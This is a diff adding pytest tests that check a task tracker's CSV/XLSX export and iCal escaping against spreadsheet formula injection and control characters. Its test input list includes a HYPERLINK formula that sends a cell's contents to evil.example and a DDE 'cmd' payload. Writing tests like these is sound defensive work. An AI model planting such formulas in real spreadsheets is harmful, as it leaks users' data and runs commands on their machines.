@@ -1,0 +1,54 @@
+"""tasktrack.sheets: text never becomes a formula or breaks the file; numbers and dates stay typed."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import zipfile
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from tasktrack import sheets
+from tasktrack.domain.ical import escape_text
+
+TRIGGERS = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A1",
+            '=HYPERLINK("http://evil.example/?x="&C2,"点击查看")', "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("text", TRIGGERS)
+def test_csv_text_that_starts_a_formula_gets_a_quote(text: str) -> None:
+    data = sheets.csv_bytes(["h"], [[text]])
+    assert data.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows == [["h"], ["'" + text]]
+
+
+def test_csv_keeps_numbers_dates_and_ordinary_text() -> None:
+    data = sheets.csv_bytes(["a", "b", "c", "d", "e"], [[-3, dt.date(2024, 7, 1), None, "进展 =1", "a\x01b"]])
+    assert data.decode("utf-8-sig").splitlines()[1] == "-3,2024-07-01,,进展 =1,a\ufffdb"
+
+
+def test_xlsx_text_is_a_string_cell_and_the_file_has_no_formula() -> None:
+    wb = Workbook()
+    ws = wb.active
+    sheets.append_row(ws, ["标题", "数", "日期"])
+    for text in TRIGGERS:
+        sheets.append_row(ws, [text, 5, dt.date(2024, 7, 1)])
+    sheets.append_row(ws, ["a\x00b\x0bc", None, None])
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
+    back = load_workbook(io.BytesIO(buffer.getvalue())).active
+    rows = list(back.iter_rows(min_row=2))
+    assert [r[0].value for r in rows[:-1]] == TRIGGERS
+    assert {r[0].data_type for r in rows} == {"s"}
+    assert rows[0][1].value == 5
+    assert rows[0][2].value.date() == dt.date(2024, 7, 1)
+    assert rows[-1][0].value == "a\ufffdb\ufffdc"
+
+
+def test_ical_text_holds_no_control_characters() -> None:
+    assert escape_text("甲\x01乙,丙\n丁") == "甲\ufffd乙\\,丙\\n丁"
